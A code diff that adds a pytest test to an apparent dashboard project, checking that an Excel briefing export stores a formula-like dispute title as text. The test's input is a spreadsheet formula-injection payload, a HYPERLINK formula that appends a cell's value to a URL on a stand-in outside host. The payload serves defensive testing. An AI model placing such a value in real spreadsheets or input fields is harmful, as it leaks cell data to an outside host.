@@ -583,3 +583,21 @@ def test_api_bad_input_is_coded(reference, make_user, path, status, code):
     assert answer.status_code == status, answer.content[:300]
     if code:
         assert answer.json()["code"] == code
+
+
+def test_the_workbook_keeps_a_formula_like_title_as_text(cases, day):
+    """A notable dispute's title is typed at the desk: one beginning like a formula stays text in the workbook."""
+    import copy
+
+    from openpyxl import load_workbook
+
+    from cityops.dashboard import briefing_render
+
+    hostile = '=HYPERLINK("http://x.example/?"&B3,"详情")'
+    b, _ = briefings.make(kind="daily", day=day, region="420106", send=False)
+    figures = copy.deepcopy(b.figures)
+    figures["notable"]["disputes"] = [{"code": "D1", "kind": "邻里纠纷", "title": hostile, "state": "调解中",
+                                       "reported": "11-30 09:00"}]
+    ws = load_workbook(BytesIO(briefing_render.xlsx_bytes(figures)))["重点案件"]
+    cells = [c for row in ws.iter_rows() for c in row if c.value == hostile]
+    assert cells and all(c.data_type == "s" for c in cells)
